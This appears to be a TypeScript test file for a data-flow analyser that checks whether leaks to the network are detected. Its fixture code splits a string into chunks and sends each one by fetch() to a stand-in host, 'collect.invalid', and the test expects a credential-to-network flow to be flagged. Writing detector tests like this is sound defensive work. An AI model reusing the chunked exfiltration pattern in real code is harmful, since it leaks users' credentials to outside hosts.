import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

describe('a list that is not known', () => {
  const sent = (what: string): readonly string[] =>
    flowsOf(`(s.match(/.{9}/g) || []).forEach((part, at) => fetch('https://collect.invalid/' + ${what}));`);

  it('gives its items to whoever goes through it', () => {
    assert.ok(sent('part').includes('credential-file>network@collect.invalid'));
  });

  it('says nothing by where they stand', () => assert.deepEqual(sent('at'), []));
});
